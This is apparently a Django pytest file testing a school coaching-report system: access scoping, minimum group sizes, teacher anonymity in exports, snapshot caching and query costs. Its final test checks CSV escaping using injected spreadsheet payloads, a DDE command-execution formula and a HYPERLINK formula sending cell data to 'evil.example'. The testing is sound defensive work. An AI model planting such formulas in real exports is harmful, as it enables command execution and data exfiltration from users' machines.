import csv
import datetime
import io

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext

from reports.models import ReportSnapshot
from tests import factories
from tests.reports.scenarios import closed_cycle

pytestmark = pytest.mark.django_db


def test_the_school_administrators_home_is_the_report(client_for, school_admin, school):
    response = client_for(school_admin).get("/school/")
    assert "Riverside Elementary: coaching programme" in response.text
    assert response.context["figures"]["staff"] == 0


def test_an_administrator_of_school_a_gets_404_on_school_bs_report(
    client_for, school_admin, other_school
):
    client = client_for(school_admin)
    assert client.get(f"/reports/schools/{other_school.pk}/").status_code == 404
    assert client.get(f"/reports/schools/{other_school.pk}/export.csv").status_code == 404


def test_a_district_administrator_reads_every_school_of_the_district(
    client_for, district_admin, school, other_school
):
    client = client_for(district_admin)
    for s in (school, other_school):
        assert client.get(f"/reports/schools/{s.pk}/").status_code == 200
    page = client.get("/district/").text
    assert "Riverside Elementary" in page
    assert "Hillcrest Middle School" in page


def test_fewer_than_k_teachers_shows_as_fewer_than_k(
    client_for, school_admin, school, year_terms, settings
):
    settings.REPORT_MIN_GROUP = 3
    for _ in range(2):
        closed_cycle(school, "Instruction")
    page = client_for(school_admin).get("/school/").text
    assert "fewer than 3" in page


def test_k_or_more_teachers_shows_the_figure(
    client_for, school_admin, school, year_terms, settings
):
    settings.REPORT_MIN_GROUP = 3
    for _ in range(4):
        closed_cycle(school, "Instruction", "met")
    figures = client_for(school_admin).get("/school/").context["figures"]
    instruction = next(r for r in figures["outcomes"]["rows"] if r["heading"] == "Instruction")
    assert instruction["total"] == {"value": 4, "hidden": ""}
    assert instruction["met_rate"] == 100


def test_no_teacher_is_named_in_a_report_or_its_export(
    client_for, school_admin, school, year_terms, teacher
):
    closed_cycle(school, teacher=teacher)
    client = client_for(school_admin)
    for url in ("/school/", f"/reports/schools/{school.pk}/export.csv"):
        body = client.get(url).content.decode()
        assert teacher.full_name not in body
        assert teacher.email not in body


def test_figures_are_stored_and_recomputed_on_demand(
    client_for, school_admin, school, year_terms, clock
):
    client = client_for(school_admin)
    client.get("/school/")
    first = ReportSnapshot.objects.get(school=school, period="this_term")
    closed_cycle(school)
    client.get("/school/")
    assert ReportSnapshot.objects.get(pk=first.pk).computed_at == first.computed_at  # stored
    clock.shift(datetime.timedelta(minutes=5))
    response = client.post(f"/reports/schools/{school.pk}/refresh/", {"period": "this_term"})
    assert response.url == f"/reports/schools/{school.pk}/?period=this_term"
    assert ReportSnapshot.objects.get(pk=first.pk).computed_at > first.computed_at


def test_the_nightly_task_recomputes_every_school_and_district(school, other_school):
    from reports.tasks import refresh_report_snapshots

    assert refresh_report_snapshots() == 3 * 3  # 2 schools + 1 district, 3 periods each
    assert ReportSnapshot.objects.count() == 9


def test_the_period_filter_changes_the_period(client_for, school_admin, year_terms):
    client = client_for(school_admin)
    assert client.get("/school/?period=this_year").context["period"] == "this_year"
    assert client.get("/school/?period=nonsense").context["period"] == "this_term"


def count(client, url):
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_report_pages_cost_the_same_as_schools_teachers_and_cycles_grow(
    client_for, school_admin, district_admin, school, district, year_terms
):
    def grow(n):
        for _ in range(n):
            extra = factories.SchoolFactory(district=district)
            for s in (school, extra):
                closed_cycle(s, "Instruction")
                factories.GoalFactory(cycle__partnership__school=s)
                factories.ActivityEntryFactory(school=s)

    grow(1)
    ReportSnapshot.objects.all().delete()
    urls = [(school_admin, "/school/"), (district_admin, "/district/")]
    cold = [count(client_for(person), url) for person, url in urls]
    warm = [count(client_for(person), url) for person, url in urls]
    grow(24)
    ReportSnapshot.objects.all().delete()
    cold_many = [count(client_for(person), url) for person, url in urls]
    warm_many = [count(client_for(person), url) for person, url in urls]
    assert cold == cold_many, f"computing: {cold} queries, then {cold_many}"
    assert warm == warm_many, f"stored: {warm} queries, then {warm_many}"
    # user, the second step's device, memberships, the scope check, the snapshot row; and
    # the session, unless it comes from Redis
    session = 0 if settings.SESSION_ENGINE.endswith("cached_db") else 1
    assert warm_many == [5 + session, 5 + session]


def test_trends_leave_out_terms_not_yet_begun(
    client_for, school_admin, district, year_terms, today
):
    factories.TermFactory(
        district=district,
        name="Next term",
        starts_on=today + datetime.timedelta(days=40),
        ends_on=today + datetime.timedelta(days=120),
    )
    trends = client_for(school_admin).get("/school/").context["figures"]["trends"]["rows"]
    assert [row["heading"] for row in trends] == ["This term"]


def test_no_cell_of_an_export_can_run_as_a_formula(
    client_for, school_admin, school, year_terms, settings
):
    settings.REPORT_MIN_GROUP = 3
    area = school.district.focus_areas.create(name="=cmd|' /C calc'!A0", position=9)
    for _ in range(3):
        cycle = closed_cycle(school)
        cycle.focus_area = area
        cycle.save()
    coach = factories.coach_at(school, user__full_name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    factories.ActivityEntryFactory(coach=coach, school=school, minutes=30)
    client = client_for(school_admin)
    client.post(f"/reports/schools/{school.pk}/refresh/", {"period": "this_term"})
    export = client.get(f"/reports/schools/{school.pk}/export.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
